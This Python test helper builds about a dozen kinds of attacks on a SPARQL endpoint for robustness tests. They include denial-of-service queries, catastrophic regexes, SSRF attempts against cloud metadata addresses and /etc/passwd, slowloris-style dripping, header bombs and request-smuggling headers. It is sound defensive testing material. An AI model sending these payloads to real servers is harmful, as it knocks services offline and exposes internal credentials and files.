"""Attacks on a SPARQL endpoint, twelve kinds of them: what each sends, and what it may be answered.

Used by tests/api/test_under_fire.py and benchmarks/hostile.py. An attack gets the address of a server and returns the
status that it was answered with, 0 for a connection that was ended without an answer.
"""

import socket
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Final
from urllib.parse import urlencode

Address = tuple[str, int]
ALL: Final = "SELECT * { ?s ?p ?o "
FORM: Final = "application/x-www-form-urlencoded"
QUERY: Final = "application/sparql-query"
# No 500 among them.
ANSWERS: Final = frozenset({0, 100, 200, 400, 404, 405, 408, 413, 414, 415, 429, 431, 503, 504, 507})
_PATIENCE: Final = 60.0  # seconds for an answer


@dataclass(frozen=True, slots=True)
class Attack:
    """One of them.

    Attributes:
        kind: of the twelve.
        name: what tells it from others of its kind.
        send: does it.
    """

    kind: str
    name: str
    send: Callable[[Address], int]


def corpus(outside: str, seconds: float = 1.0) -> list[Attack]:
    """Return all attacks.

    Args:
        outside: host:port of a listener that nobody may be made to call.
        seconds: time limit that queries ask for.
    """
    queries = {
        "nesting": _nesting(),
        "path explosion": _paths(),
        "cross product": _products(),
        "regex backtracking": _regexes(),
        "huge literals": _literals(),
        "deep CONSTRUCT": _constructs(),
        "bind loops": _binds(),
        "SERVICE": _services(outside),
        "FROM lists": _datasets(),
    }
    attacks = [
        Attack(kind, f"{number}: {query[:40]!r}", _posted(query, seconds))
        for kind, found in queries.items()
        for number, query in enumerate(found)
    ]
    raw = {"malformed UTF-8": _malformed(), "slow clients": _slow(), "header bombs": _bombs()}
    attacks += [Attack(kind, name, send) for kind, found in raw.items() for name, send in found]
    return attacks


def _nesting() -> Iterator[str]:
    for n in (50, 3000, 20_000):
        yield ALL + "FILTER(" + "(" * n + "?o>0" + ")" * n + ") }"
        yield "SELECT * { " + "{ " * n + "?s ?p ?o" + "}" * n + " }"
    for n in (60, 2000):
        yield ALL + "FILTER(" + "!(" * n + "?o>0" + ")" * n + ") }"
        yield ALL + "FILTER EXISTS { ?s ?p ?o " * n + "}" * n + " }"
        yield ALL + "OPTIONAL { ?s ?p ?o " * n + "}" * n + " }"
        yield "SELECT * { " + "{ ?s ?p ?o } UNION { " * n + "?s ?p ?o" + "}" * n + " }"
        yield "SELECT * { " + "{ SELECT * { " * n + "?s ?p ?o" + "} }" * n + " }"
    yield "SELECT * " + "{" * 90 + "{?s ?p ?o}" * 6000 + "}" * 90


def _paths() -> Iterator[str]:
    yield "SELECT * { ?a (<a:b>|!<a:b>)* ?b }"
    yield "SELECT * { ?a ((!<a:b>)*)* ?b }"
    yield "SELECT (COUNT(*) AS ?n) { ?a (!<a:b>|^!<a:b>)+ ?b . ?b (!<a:b>|^!<a:b>)+ ?c }"
    yield "SELECT (COUNT(*) AS ?n) { ?a (!<a:b>/^!<a:b>)* ?b }"
    yield "ASK { ?a ((!<a:b>)?/(!<a:b>)?/(!<a:b>)?)* ?b . ?b ((!<a:b>)+)+ ?c FILTER(?a = ?c && ?a != ?a) }"
    for n in (40, 300, 5000):
        yield "SELECT * { ?s " + "/".join(["(!<a:b>|^!<a:b>)"] * n) + " ?o }"
        yield "SELECT * { ?s " + "(" * n + "!<a:b>" + ")*" * n + " ?o }"
        yield "SELECT * { ?s " + "^(" * n + "!<a:b>" + ")" * n + " ?o }"


def _products() -> Iterator[str]:
    for n in range(3, 10):
        pattern = " . ".join(f"?a{i} ?b{i} ?c{i}" for i in range(n))
        names = ", ".join(f"STR(?a{i})" for i in range(n))
        yield f'ASK {{ {pattern} FILTER(CONCAT({names}) = "x") }}'
        if n < 6:
            yield f"SELECT * {{ {pattern} }} ORDER BY ?c{n - 1} ?c0"
            yield f"SELECT (COUNT(DISTINCT CONCAT({names})) AS ?n) {{ {pattern} }}"


def _regexes() -> Iterator[str]:
    text = "a" * 5000
    for pattern in ("(a+)+$", "(a|aa)+b", "(a|a?)+$", "(.*)*b", "((a*)*)*b", "a{1,1000}{1,1000}", "(x+x+)+y"):
        yield f'ASK {{ FILTER(REGEX("{text}", "{pattern}")) }}'
    yield f'SELECT * {{ ?s ?p ?o FILTER(REGEX(STR(?o), "{"(a?){50}" * 20}")) }}'
    yield f'SELECT (REPLACE("{text}", "a", "{"$0" * 500}") AS ?x) {{}}'
    yield f'SELECT * {{ ?s ?p ?o . ?t ?q ?r FILTER(REGEX(CONCAT(STR(?o), STR(?r)), "{"(.*)" * 12}z$")) }}'
    yield 'ASK { ?s ?p ?o FILTER(REGEX(?o, ?o) && REGEX(STR(?s), CONCAT(STR(?o), "(((")))} '


def _literals() -> Iterator[str]:
    double = " ".join(f"BIND(CONCAT(?x{n}, ?x{n}) AS ?x{n + 1})" for n in range(30))
    for n in (10, 30):
        yield f'SELECT (STRLEN(?x{n}) AS ?l) {{ BIND("0123456789abcdef" AS ?x0) {double} }}'
    yield f"SELECT * {{ BIND('0123456789abcdef' AS ?x0) {double} }}"
    yield "SELECT (GROUP_CONCAT(CONCAT(STR(?a), STR(?d), STR(?g))) AS ?all) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }"
    yield 'ASK { ?s ?p "' + "x" * 60_000 + '" }'
    yield 'ASK { ?s ?p "' + "x" * 70_000 + '" }'
    yield "ASK { ?s ?p " + "9" * 60_000 + " }"
    yield "SELECT (1" + "0" * 50_000 + " * 2 AS ?x) {}"
    yield 'SELECT (ENCODE_FOR_URI("' + "é" * 20_000 + '") AS ?x) {}'
    yield "SELECT (SHA512(GROUP_CONCAT(STR(?o))) AS ?x) { ?s ?p ?o . ?t ?q ?r . ?u ?v ?w }"


def _constructs() -> Iterator[str]:
    for n in (100, 3000):
        yield "CONSTRUCT { " + "".join(f"?s <a:p{i}> ?o . " for i in range(n)) + "} WHERE { ?s ?p ?o . ?t ?q ?r }"
        yield "CONSTRUCT { ?s ?p " + "[ <a:b> " * n + "1" + "]" * n + " } WHERE { ?s ?p ?o }"
        yield "CONSTRUCT { ?s ?p " + "( " * n + "1" + ")" * n + " } WHERE { ?s ?p ?o . ?t ?q ?r }"
        yield "CONSTRUCT { _:a ?p ?o } WHERE { " + " UNION ".join(["{ ?s ?p ?o . ?t ?q ?r }"] * n) + " }"
    yield "CONSTRUCT { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i } WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }"
    yield "DESCRIBE * { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }"


def _binds() -> Iterator[str]:
    for n in (100, 1000, 3000):
        yield ALL + "".join(f"BIND(?o+{i} AS ?v{i}) " for i in range(n)) + "}"
        yield "SELECT " + " ".join(f"(1 AS ?v{i})" for i in range(n)) + " {}"
        yield "SELECT ((" + "IF(true," * n + "1" + ",2)" * n + ") AS ?x) {}"
    yield "SELECT * { " + " ".join(f"VALUES ?v{i} {{ 1 2 3 4 5 6 7 8 9 }}" for i in range(30)) + " }"
    yield "SELECT * { VALUES ?x {" + " 1" * 30_000 + "} }"
    yield "SELECT * { " + "".join(f"?s kb:evntTp{i} ?o . " for i in range(2900)) + "}"
    yield "SELECT * { " + " ".join(f"selact{i}" for i in range(5500))
    yield "SELECT * { " + "".join(f"BIND(UUID() AS ?u{i}) " for i in range(500)) + "?a ?b ?c . ?d ?e ?f }"


def _services(outside: str) -> Iterator[str]:
    for where in (
        f"<http://{outside}/>", f"SILENT <http://{outside}/sparql>", f"<http://{outside}@{outside}/>", "?where",
        "<http://169.254.169.254/latest/meta-data/>", "<http://[::1]/>", "<http://0x7f000001/>", "<file:///etc/passwd>",
        "<http://metadata.google.internal/>", "<https://localhost/>", "SILENT <http://2130706433/>",
    ):  # fmt: skip
        yield f"SELECT * {{ BIND(<http://{outside}/> AS ?where) SERVICE {where} {{ ?s ?p ?o }} }}"
    yield f"SELECT * {{ SERVICESILENT<http://{outside}/>{{ ?s ?p ?o }} }}"
    yield f"SELECT * {{ ?a<1#b>\n SERVICE <http://{outside}/> {{ ?s ?p ?o }} }}"
    yield f"SELECT * {{ \\u0053ERVICE <http://{outside}/> {{ ?s ?p ?o }} }}"
    yield f"SELECT * FROM <http://{outside}/data.ttl> {{ ?s ?p ?o }}"
    yield f"LOAD <http://{outside}/data.ttl>"


def _datasets() -> Iterator[str]:
    for n in (5, 21, 1000, 2000):
        clauses = " ".join(f"<http://localhost:8000/graph/{i}>" for i in range(n))
        yield f"SELECT * FROM {clauses.replace(' ', ' FROM ')} {{ ?s ?p ?o }}"
        yield f"SELECT * FROM NAMED {clauses.replace(' ', ' FROM NAMED ')} {{ GRAPH ?g {{ ?s ?p ?o }} }}"
    yield "SELECT * FROM <" + "x" * 60_000 + "> { ?s ?p ?o }"
    yield "SELECT * { " + "GRAPH ?g { " * 3000 + "?s ?p ?o" + "}" * 3000 + " }"


def _malformed() -> Iterator[tuple[str, Callable[[Address], int]]]:
    for name, text in {
        "lone byte": b"\xff", "cut off": b"ASK { ?s ?p \"\xe2\x82\" }", "overlong": b"ASK { ?s ?p \"\xc0\xaf\" }",
        "surrogate": b"ASK { ?s ?p \"\xed\xa0\x80\" }", "beyond": b"ASK { ?s ?p \"\xf5\x80\x80\x80\" }",
        "utf-16": "ASK {}".encode("utf-16"), "nulls": b"ASK { ?s ?p \"\x00\x00\" }", "mark": b"\xef\xbb\xbfASK {}",
        "escaped surrogate": b"ASK { ?s ?p \"\\uD800\" }", "control": b"ASK\x01{\x02}",
    }.items():  # fmt: skip
        yield name, lambda at, text=text: _request(at, text, QUERY)  # type: ignore[misc]
    yield "form", lambda at: _request(at, b"query=%ff%fe%00", FORM)
    yield "no escapes", lambda at: _request(at, b"query=" + b"%" * 900_000, FORM)
    yield "long form", lambda at: _request(at, b"query=" + b"%28" * 8_000_000, FORM)


def _slow() -> Iterator[tuple[str, Callable[[Address], int]]]:
    head = b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Type: application/sparql-query\r\n"
    for name, parts in {
        "says nothing": [b""],
        "half a line": [b"GET /spar"],
        "drips headers": [b"GET /sparql HTTP/1.1\r\nHost: x\r\n", *[b"X: y\r\n"] * 8],
        "drips a header": [b"GET /sparql HTTP/1.1\r\nHost: x\r\nX: ", *[b"y"] * 8],
        "no body": [head + b"Content-Length: 100\r\n\r\n"],
        "drips a body": [head + b"Content-Length: 100\r\n\r\n", *[b"A"] * 8],
        "drips chunks": [head + b"Transfer-Encoding: chunked\r\n\r\n", *[b"1\r\nA\r\n"] * 8],
        "promises much": [head + b"Content-Length: 99999999999\r\n\r\nASK"],
        "expects to go on": [head + b"Expect: 100-continue\r\nContent-Length: 10\r\n\r\n"],
        "goes at once": [head + b"Content-Length: 6\r\n\r\nASK {}"],
    }.items():
        yield name, lambda at, parts=parts: _drip(at, parts)  # type: ignore[misc]


def _bombs() -> Iterator[tuple[str, Callable[[Address], int]]]:
    line = b"GET /sparql?query=ASK%20%7B%7D HTTP/1.1\r\nHost: x\r\n"
    for name, sent in {
        "one long": line + b"X: " + b"a" * (2 << 20) + b"\r\n\r\n",
        "many": line + b"".join(b"X-%d: y\r\n" % n for n in range(50_000)) + b"\r\n",
        "many alike": line + b"Accept: text/csv\r\n" * 20_000 + b"\r\n",
        "long accept": line + b"Accept: " + b"text/csv;q=0.1," * 20_000 + b"*/*\r\n\r\n",
        "long address": b"GET /sparql?query=" + b"%28" * 300_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
        "many parameters": b"GET /sparql?"
        + b"default-graph-uri=a:b&" * 3000
        + b"query=ASK%7B%7D HTTP/1.1\r\nHost: x\r\n\r\n",
        "folded": line + b"X: a\r\n" + b" b\r\n" * 50_000 + b"\r\n",
        "two lengths": line + b"Content-Length: 5\r\nContent-Length: 6\r\n\r\nASK {}",
        "length and chunks": line + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "no such version": b"GET /sparql HTTP/9.9\r\n\r\n",
        "rubbish": bytes(range(256)) * 2000,
        "tags": line + b"If-None-Match: " + b'"a",' * 15_000 + b"\r\n\r\n",
    }.items():
        yield name, lambda at, sent=sent: _drip(at, [sent], wait=0)  # type: ignore[misc]


def _posted(query: str, seconds: float) -> Callable[[Address], int]:
    body = urlencode({"query": query, "timeout": seconds}).encode()
    return lambda at: _request(at, body, FORM)


def _request(at: Address, body: bytes, media_type: str) -> int:
    head = (
        f"POST /sparql HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAccept: */*\r\nContent-Type: {media_type}\r\n"
        f"Content-Length: {len(body)}\r\n\r\n"
    )
    return _drip(at, [head.encode() + body], wait=0, whole=True)


def _drip(at: Address, parts: list[bytes], wait: float = 0.2, *, whole: bool = False) -> int:
    """Send parts with a pause between; return the status, 0 if the other end closed without one."""
    with socket.create_connection(at, timeout=_PATIENCE) as connection:
        try:
            for part in parts:
                connection.sendall(part)
                time.sleep(wait)
            said = connection.recv(1 << 16)
            while whole and said and (more := connection.recv(1 << 16)):
                said = said[:64] + more[:0]
        except (ConnectionError, TimeoutError):
            return 0
    return int(said[9:12]) if said.startswith(b"HTTP/1.") else 0
